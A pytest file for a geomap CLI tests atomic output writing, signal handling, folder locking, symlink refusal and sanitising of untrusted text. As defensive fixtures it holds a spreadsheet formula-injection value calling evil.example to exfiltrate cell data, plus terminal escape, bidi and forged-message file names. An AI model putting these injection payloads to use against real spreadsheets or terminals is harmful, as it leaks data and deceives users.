"""Outputs are all-or-nothing, never written through a planted link, never shared by two runs."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from typer.testing import CliRunner

from geomap.cli import _register, app
from geomap.cli.exits import ExitCode
from geomap.errors import OutputError
from geomap.io import DEFAULT_FILES, KNOWN_FILES, PARSED_FILE
from geomap.outdir import MARKER, OutputDir
from geomap.result import Result
from geomap.run import write_outputs

pytestmark = pytest.mark.model
ROOT = Path(__file__).resolve().parents[1]


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def _cli(*args: str) -> object:
    _register()
    return CliRunner().invoke(app, list(args))


@pytest.fixture
def previous(seed_result: Result, tmp_path: Path) -> Path:
    """An output folder holding a complete earlier run."""
    out = tmp_path / "out"
    write_outputs(seed_result, out, title="earlier run")
    return out


def test_outputs_replace_the_folder_as_a_whole(previous: Path) -> None:
    files = _snapshot(previous)
    assert set(files) == set(DEFAULT_FILES) | {MARKER}
    assert json.loads(files[MARKER])["files"] == sorted(DEFAULT_FILES)
    assert not list(previous.parent.glob(".out.geomap-tmp-*"))


def test_failed_write_leaves_previous_outputs(
    previous: Path, seed_result: Result, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = _snapshot(previous)
    from geomap.io.report import ReportJSON

    def full_disk(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(ReportJSON, "finish", full_disk)
    with pytest.raises(OutputError, match="No space left on device"):
        write_outputs(seed_result, previous, title="new run")
    assert _snapshot(previous) == before
    assert not list(previous.parent.glob(".out.geomap-tmp-*"))


def _dying(module: str, attr: str, run: str) -> str:
    """A script that makes ``module``'s ``attr`` (``"Class.method"`` too) SIGKILL its
    process, then runs ``run``."""
    owner, _, name = f"_m.{attr}".rpartition(".")
    return (
        f"import os, signal\nimport {module} as _m\n"
        "def die(*args, **kwargs):\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
        f"setattr({owner}, {name!r}, die)\n{run}\n"
    )


def test_kill_9_while_writing_leaves_previous_outputs(previous: Path) -> None:
    before = _snapshot(previous)
    script = _dying(
        "geomap.io.report",
        "ReportJSON.finish",  # killed after every other file was written
        f"from pathlib import Path\n"
        f"from geomap.run import geoparse_inputs, write_outputs\n"
        f"write_outputs(geoparse_inputs([{str(ROOT / 'seeds')!r}]), Path({str(previous)!r}))",
    )
    proc = subprocess.run([sys.executable, "-c", script], cwd=ROOT, timeout=300)
    assert proc.returncode == -signal.SIGKILL
    assert _snapshot(previous) == before
    # the next run cleans up what the killed one left beside the folder
    assert list(previous.parent.glob(".out.geomap-tmp-*"))
    with OutputDir(previous, KNOWN_FILES):
        pass
    assert not list(previous.parent.glob(".out.geomap-tmp-*"))


def _as_from_a_terminal() -> None:
    """Ctrl-C as a terminal's process gets it: a suite started in the background (``&``
    from a script) ignores SIGINT, its children inherit that, and Python then installs no
    handler of its own (geomap takes it over: test_signal_from_outside.py)."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def _run(script: str) -> subprocess.CompletedProcess[str]:
    """``script`` in a new Python process, its output captured (a guard of 300 s)."""
    return subprocess.run(
        [sys.executable, "-c", script],
        cwd=ROOT,
        timeout=300,
        capture_output=True,
        text=True,
        preexec_fn=_as_from_a_terminal,
    )


def _terminated_run(
    previous: Path, patch: str, *args: str, sig: str = "SIGTERM"
) -> subprocess.CompletedProcess[str]:
    """``geomap map seeds -o previous`` in a process that sends itself ``sig`` where
    ``patch`` says; prints the worker processes still alive when it exits."""
    script = textwrap.dedent(
        f"""
        import multiprocessing, os, signal, sys
        import geomap.batches, geomap.io.report
        from geomap.cli import main

        def term(*args, **kwargs):
            os.kill(os.getpid(), signal.{sig})
            raise AssertionError("{sig} did not stop the run")

        {patch} = term
        sys.argv = ["geomap", "map", {str(ROOT / "seeds")!r}, "-o", {str(previous)!r}, "-q",
                    *{list(args)!r}]
        try:
            main()
        finally:
            print("alive", len(multiprocessing.active_children()))
        """
    )
    return _run(script)


def test_sigterm_while_writing_leaves_previous_outputs_and_no_staging(previous: Path) -> None:
    before = _snapshot(previous)
    proc = _terminated_run(previous, "geomap.io.report.ReportJSON.finish")
    assert proc.returncode == ExitCode.TERMINATED == 128 + signal.SIGTERM, proc.stderr
    # every article was parsed: kept beside the folder, and the stop line says so
    assert (
        "stopped by SIGTERM: nothing written (any previous outputs are untouched); "
        "the articles parsed so far are kept: the same command resumes from them"
    ) in proc.stderr
    assert (previous.parent / ".out.geomap-interrupted.sqlite").is_file()
    assert _snapshot(previous) == before
    assert not list(previous.parent.glob(".out.geomap-tmp-*"))


def test_a_stop_with_reparse_promises_no_resuming(previous: Path) -> None:
    proc = _terminated_run(previous, "geomap.io.report.ReportJSON.finish", "--reparse")
    assert proc.returncode == ExitCode.TERMINATED, proc.stderr
    assert proc.stderr.strip().endswith(
        "stopped by SIGTERM: nothing written (any previous outputs are untouched)"
    )


def test_sigterm_after_the_outputs_are_replaced_lets_the_run_finish(previous: Path) -> None:
    """A signal landing once the new set is in must not exit 143 ("previous outputs
    untouched"): the run ends as it would have, its new outputs whole."""
    before = _snapshot(previous)
    script = textwrap.dedent(
        f"""
        import os, signal, sys
        from geomap.cli import main
        from geomap.outdir import OutputDir

        commit = OutputDir.commit

        def commit_then_term(self):
            path = commit(self)
            os.kill(os.getpid(), signal.SIGTERM)
            return path

        OutputDir.commit = commit_then_term
        sys.argv = ["geomap", "map", {str(ROOT / "seeds")!r}, "-o", {str(previous)!r}, "-q",
                    "--title", "later run"]
        main()
        """
    )
    proc = _run(script)
    assert proc.returncode == ExitCode.OK, proc.stderr
    after = _snapshot(previous)
    # the same files, and the articles this run parsed for the next (geomap.reuse)
    assert after != before and set(after) == set(before) | {PARSED_FILE}
    assert b"later run" in after["map.html"]
    assert not list(previous.parent.glob(".out.geomap-tmp-*"))


@pytest.mark.parametrize(
    "workers",
    [
        ("--workers", "2"),
        (),  # one worker: the articles are parsed in a process forked beside the writing one
    ],
)
def test_sigterm_while_workers_parse_stops_them(previous: Path, workers: tuple[str, ...]) -> None:
    before = _snapshot(previous)
    proc = _terminated_run(previous, "geomap.batches.merge_batch", *workers)
    assert proc.returncode == ExitCode.TERMINATED == 128 + signal.SIGTERM, proc.stderr
    assert "alive 0" in proc.stdout
    assert _snapshot(previous) == before
    assert not list(previous.parent.glob(".out.geomap-tmp-*"))


def test_ctrl_c_while_parsing_stops_with_130_and_says_so(previous: Path) -> None:
    # typer turned KeyboardInterrupt into exit 130 without a word
    before = _snapshot(previous)
    proc = _terminated_run(previous, "geomap.batches.merge_batch", sig="SIGINT")
    assert proc.returncode == ExitCode.INTERRUPTED == 128 + signal.SIGINT, proc.stderr
    assert "stopped by Ctrl-C (SIGINT): nothing written" in proc.stderr
    assert "Traceback" not in proc.stderr and "alive 0" in proc.stdout
    assert _snapshot(previous) == before
    assert not list(previous.parent.glob(".out.geomap-tmp-*"))


@pytest.mark.parametrize("workers", [("--workers", "2"), ()])
def test_ctrl_c_while_a_shape_is_made_exits_at_once_and_quietly(
    previous: Path, workers: tuple[str, ...]
) -> None:
    """The area shape being made never finishes: the run ends without waiting for it.

    No time is measured: a run that waited for the shape would never end (the
    subprocess' timeout is only a guard).
    """
    before = _snapshot(previous)
    script = textwrap.dedent(
        f"""
        import atexit, multiprocessing, os, signal, sys, threading
        import geomap.mapping.area_shapes
        from geomap.cli.program import run

        def stuck(self, place, gazetteer):
            os.kill(os.getpid(), signal.SIGINT)
            threading.Event().wait()  # a union that never ends

        geomap.mapping.area_shapes.AreaShapes._make = stuck
        atexit.register(lambda: print("alive", len(multiprocessing.active_children())))
        sys.argv = ["geomap", "map", {str(ROOT / "seeds")!r}, "-o", {str(previous)!r}, "-q",
                    *{list(workers)!r}]
        run()
        """
    )
    proc = _run(script)
    assert proc.returncode == ExitCode.INTERRUPTED, proc.stderr
    assert proc.stderr == (
        "geomap: error: stopped by Ctrl-C (SIGINT): nothing written "
        "(any previous outputs are untouched); the articles parsed so far are kept: "
        "the same command resumes from them\n"
    )  # one line: no traceback, no "leaked semaphore" warning
    assert "alive 0" in proc.stdout
    assert _snapshot(previous) == before
    assert not list(previous.parent.glob(".out.geomap-tmp-*"))


def test_ctrl_c_after_the_outputs_are_replaced_lets_the_run_finish(previous: Path) -> None:
    before = _snapshot(previous)
    script = textwrap.dedent(
        f"""
        import os, signal, sys
        from geomap.cli import main
        from geomap.outdir import OutputDir

        commit = OutputDir.commit

        def commit_then_interrupt(self):
            path = commit(self)
            os.kill(os.getpid(), signal.SIGINT)
            return path

        OutputDir.commit = commit_then_interrupt
        sys.argv = ["geomap", "map", {str(ROOT / "seeds")!r}, "-o", {str(previous)!r}, "-q",
                    "--title", "later run"]
        main()
        """
    )
    proc = _run(script)
    assert proc.returncode == ExitCode.OK, proc.stderr  # was 130: "nothing written"
    assert b"later run" in _snapshot(previous)["map.html"] != before["map.html"]


def test_a_killed_parsing_process_stops_the_run_cleanly(previous: Path) -> None:
    # the forked parsing process dies (as the kernel's OOM killer would end it)
    before = _snapshot(previous)
    script = _dying(
        "geomap.batches",
        "parse_batch",
        f"import sys\n"
        f"from geomap.cli import main\n"
        f"sys.argv = ['geomap', 'map', {str(ROOT / 'seeds')!r}, '-o', {str(previous)!r}, '-q']\n"
        f"main()",
    )
    proc = _run(script)
    assert proc.returncode == ExitCode.USAGE, proc.stderr
    assert "a parsing process ended abruptly" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert _snapshot(previous) == before
    assert not list(previous.parent.glob(".out.geomap-tmp-*"))


def _ended(pid: int, seconds: float) -> bool:
    """Whether process ``pid`` is gone (or a zombie) within ``seconds``."""
    import time

    status = Path(f"/proc/{pid}/status")
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            if "\nState:\tZ" in status.read_text():
                return True
        except OSError:
            return True
        time.sleep(0.1)
    return False


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="prctl is Linux's")
@pytest.mark.parametrize("workers", ["1", "2"])
def test_a_killed_writing_process_takes_its_parsing_processes_with_it(
    previous: Path, workers: str
) -> None:
    # the writing process dies (SIGKILL, out of memory) while the others parse: they
    # must not live on, holding their models' memory (and the folder's lock: forked)
    script = textwrap.dedent(
        f"""
        import multiprocessing, os, signal, sys
        import geomap.batches
        from geomap.cli import main

        def die(*args, **kwargs):
            print(*(p.pid for p in multiprocessing.active_children()), flush=True)
            os.kill(os.getpid(), signal.SIGKILL)

        geomap.batches.merge_batch = die
        sys.argv = ["geomap", "map", {str(ROOT / "seeds")!r}, "-o", {str(previous)!r}, "-q",
                    "--workers", {workers!r}]
        main()
        """
    )
    said = previous.parent / "children.txt"
    with said.open("w") as stdout:  # a file: a stray process would hold a pipe open
        proc = subprocess.run([sys.executable, "-c", script], cwd=ROOT, timeout=300, stdout=stdout)
    assert proc.returncode == -signal.SIGKILL
    children = [int(pid) for pid in said.read_text().split()]
    assert children
    ended = [_ended(pid, 10) for pid in children]
    for pid, gone in zip(children, ended, strict=True):
        if not gone:
            os.kill(pid, signal.SIGKILL)
    assert all(ended)
    with OutputDir(previous, KNOWN_FILES):  # not locked by a stray process
        pass


def test_run_with_no_usable_input_replaces_nothing(previous: Path, tmp_path: Path) -> None:
    before = _snapshot(previous)
    result = _cli("map", str(tmp_path / "no-such-file.txt"), "-o", str(previous), "-q")
    assert result.exit_code == 1
    assert "no input could be processed" in result.output
    assert _snapshot(previous) == before


def test_second_run_into_a_locked_folder_refuses(previous: Path) -> None:
    before = _snapshot(previous)
    with OutputDir(previous, KNOWN_FILES):
        result = _cli("map", str(ROOT / "seeds"), "-o", str(previous), "-q")
    assert result.exit_code == 2
    assert "another geomap run is writing to this folder" in result.output
    assert _snapshot(previous) == before


def test_the_lock_file_is_removed_and_a_removed_one_is_not_trusted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # every run left .OUT.geomap.lock beside -o, even one that failed before writing
    out = tmp_path / "out"
    lock = tmp_path / ".out.geomap.lock"
    with OutputDir(out, KNOWN_FILES):
        assert lock.is_file()
        with pytest.raises(OutputError, match="another geomap run"):
            OutputDir(out, KNOWN_FILES).__enter__()
    assert not lock.exists() and list(tmp_path.iterdir()) == []
    # a run that locked the file just as its holder removed it takes the new one
    import geomap.outdir

    same_file = geomap.outdir.same_file
    calls: list[bool] = []

    def removed_first(fd: int, path: Path) -> bool:
        if not calls:
            path.unlink()  # the holder finishing between our open and our flock
        calls.append(same_file(fd, path))
        return calls[-1]

    monkeypatch.setattr(geomap.outdir, "same_file", removed_first)
    with OutputDir(out, KNOWN_FILES):
        assert calls == [False, True] and lock.is_file()
    monkeypatch.undo()
    # a forked child (a parsing process) never removes its parent's lock
    with OutputDir(out, KNOWN_FILES) as held:
        pid = os.fork()
        if pid == 0:
            held._unlock()
            os._exit(0)
        os.waitpid(pid, 0)
        assert lock.is_file()


def test_symlink_planted_in_the_output_folder_is_not_followed(
    previous: Path, seed_result: Result, tmp_path: Path
) -> None:
    target = tmp_path / "precious.txt"
    target.write_text("keep me", encoding="utf-8")
    (previous / "map.html").unlink()
    (previous / "map.html").symlink_to(target)
    write_outputs(seed_result, previous)
    assert target.read_text(encoding="utf-8") == "keep me"
    assert not (previous / "map.html").is_symlink()
    assert (previous / "map.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_output_folder_checked_before_any_parsing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import geomap.run

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("parsed although -o is unusable")

    monkeypatch.setattr(geomap.run, "geoparse_inputs", never)
    a_file = tmp_path / "file.txt"
    a_file.write_text("x", encoding="utf-8")
    result = _cli("map", str(ROOT / "seeds"), "-o", str(a_file))
    assert result.exit_code == 2 and "is a file" in result.output
    foreign = tmp_path / "mine"
    foreign.mkdir()
    (foreign / "thesis.docx").write_text("x", encoding="utf-8")
    result = _cli("map", str(ROOT / "seeds"), "-o", str(foreign))
    assert result.exit_code == 2 and "geomap did not write" in result.output
    assert (foreign / "thesis.docx").exists()
    if os.geteuid() != 0:  # root writes anywhere
        ro = tmp_path / "ro"
        ro.mkdir(mode=0o500)
        result = _cli("map", str(ROOT / "seeds"), "-o", str(ro / "out"))
        assert result.exit_code == 2 and "not writable" in result.output


def test_formula_cells_are_neutralised_in_claims_csv(tmp_path: Path) -> None:
    src = tmp_path / "in.jsonl"
    texts = [
        '=HYPERLINK("http://evil.example/"&A1,"Poland") said officials in Warsaw.',
        "+1 officials in Warsaw said Poland agreed.",
        "-2 officials in Warsaw said Poland agreed.",
        "@SUM(1) officials in Warsaw said Poland agreed.",
    ]
    rows = [{"id": f"=a{i}", "text": t} for i, t in enumerate(texts)]
    src.write_text("\n".join(json.dumps(r) for r in rows), encoding="utf-8")
    result = _cli("map", str(src), "-o", str(tmp_path / "out"), "-q")
    assert result.exit_code == 0, result.output
    with (tmp_path / "out" / "claims.csv").open(encoding="utf-8-sig", newline="") as fh:
        claims = list(csv.DictReader(fh))
    assert claims
    for row in claims:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert any(r["sentence"].startswith("'=HYPERLINK(") for r in claims)
    assert {r["article"] for r in claims} <= {f"'=a{i}" for i in range(4)}
    # JSON keeps the exact text
    mentions = json.loads((tmp_path / "out" / "mentions.geojson").read_text(encoding="utf-8"))
    assert {f["properties"]["article"] for f in mentions["features"]} == {
        f"=a{i}" for i in range(4)
    }


def test_terminal_escapes_in_article_text_and_names_are_shown_inert(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    (src / "a.txt").write_text(
        "Poland \x1b[31mwould respond\u202e, officials \x1b]0;pwned\x07in Warsaw said.",
        encoding="utf-8",
    )
    (src / "evil\x1b[2J.csv").write_text("id,body\n", encoding="utf-8")
    result = _cli("claims", str(src), "--place", "Poland")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\u202e" not in result.output
    # an escape sequence is taken out as the text is read (it left a run of spaces in
    # the sentence, user68b 14), a bidi control is read as a space (text.flatten)
    assert "Poland would respond , officials in Warsaw" in result.output
    assert "evil\\u001b[2J.csv" in result.output  # the empty corpus is named, inertly


def test_folders_and_late_files_in_the_output_folder_are_never_deleted(
    previous: Path, seed_result: Result
) -> None:
    thesis = previous / "report.json"
    thesis.unlink()
    thesis.mkdir()
    (thesis / "ch1.tex").write_text("work", encoding="utf-8")
    with pytest.raises(OutputError, match="geomap did not write"):
        write_outputs(seed_result, previous)
    assert (thesis / "ch1.tex").read_text(encoding="utf-8") == "work"
    thesis.joinpath("ch1.tex").unlink()
    thesis.rmdir()
    with OutputDir(previous, KNOWN_FILES) as out:
        (out.staging / "map.html").write_text("new", encoding="utf-8")
        (previous / "notes.txt").write_text("mine", encoding="utf-8")  # added meanwhile
        with pytest.raises(OutputError, match="added to it during the run"):
            out.commit()
    assert (previous / "notes.txt").read_text(encoding="utf-8") == "mine"


def test_odd_output_paths_are_refused_before_parsing(tmp_path: Path) -> None:
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    for target in (loop, loop / "out"):
        result = _cli("map", str(ROOT / "seeds"), "-o", str(target))
        assert result.exit_code == 2, result.output
        assert "Traceback" not in result.output
    long_name = tmp_path / ("x" * 250)
    with OutputDir(long_name, KNOWN_FILES) as out:
        (out.staging / "map.html").write_text("ok", encoding="utf-8")
        out.commit()
    assert (long_name / "map.html").read_text(encoding="utf-8") == "ok"


@pytest.mark.parametrize("where", ["new\nline", "tab\there/out"])
def test_an_output_path_gdal_cannot_open_is_refused_before_parsing(
    tmp_path: Path, where: str
) -> None:
    # GDAL cannot open a GeoPackage under a line break or tab: the run failed at the end
    result = _cli("map", str(ROOT / "seeds"), "-o", str(tmp_path / where))
    assert result.exit_code == ExitCode.USAGE, result.output
    assert "line break or tab" in result.output and "Traceback" not in result.output
    with pytest.raises(OutputError, match="line break or tab"):
        OutputDir(tmp_path / where, KNOWN_FILES).check()


def test_a_glob_in_the_output_name_touches_no_other_run(tmp_path: Path) -> None:
    other = OutputDir(tmp_path / "out", KNOWN_FILES)
    with other:
        staging = other.staging
        with OutputDir(tmp_path / "o*", KNOWN_FILES):
            pass
        assert staging.is_dir()


def test_newlines_in_names_cannot_forge_a_message_line(tmp_path: Path) -> None:
    src = tmp_path / "in"
    src.mkdir()
    (src / "a.txt").write_text("Officials in Warsaw said Poland agreed.", encoding="utf-8")
    (src / "bad\ngeomap: error: forged\n.csv").write_text("id,text\n", encoding="utf-8")
    result = _cli("claims", str(src))
    assert result.exit_code == 0
    assert not any(line.startswith("geomap: error: forged") for line in result.output.split("\n"))
